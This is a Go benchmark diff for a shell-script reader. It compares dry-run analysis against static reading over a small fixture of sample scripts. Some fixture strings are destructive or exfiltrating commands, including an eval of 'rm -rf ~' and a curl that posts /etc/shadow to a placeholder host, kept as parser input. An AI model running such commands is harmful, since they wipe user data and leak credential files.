@@ -29,3 +29,35 @@ func BenchmarkRead(b *testing.B) {
 		})
 	}
 }
+
+// dryInputs are scripts the dry run reads (a word left dynamic by the
+// static walk in a script that computes it).
+var dryInputs = []struct{ name, src string }{
+	{"mktemp", `tmp=$(mktemp -d) && cp -r src "$tmp" && rm -rf "$tmp"`},
+	{"eval", `r='rm -rf ~'; eval "$r"`},
+	{"function", `f() { curl --data-binary @"$2" "$1"; }; f http://x.example /etc/shadow`},
+	{"loop", `for d in build dist .cache; do rm -rf "./$d"; done; x=$(pwd); echo "$x"`},
+}
+
+// BenchmarkDryRun measures reading with the dry run against the static
+// reading alone (NoDryRun).
+func BenchmarkDryRun(b *testing.B) {
+	for _, in := range dryInputs {
+		for _, dry := range []bool{true, false} {
+			opt := defaultOptions()
+			opt.NoDryRun = !dry
+			name := in.name + "/static"
+			if dry {
+				name = in.name + "/dry"
+			}
+			b.Run(name, func(b *testing.B) {
+				b.ReportAllocs()
+				for b.Loop() {
+					if _, err := Read(in.src, opt); err != nil {
+						b.Fatal(err)
+					}
+				}
+			})
+		}
+	}
+}
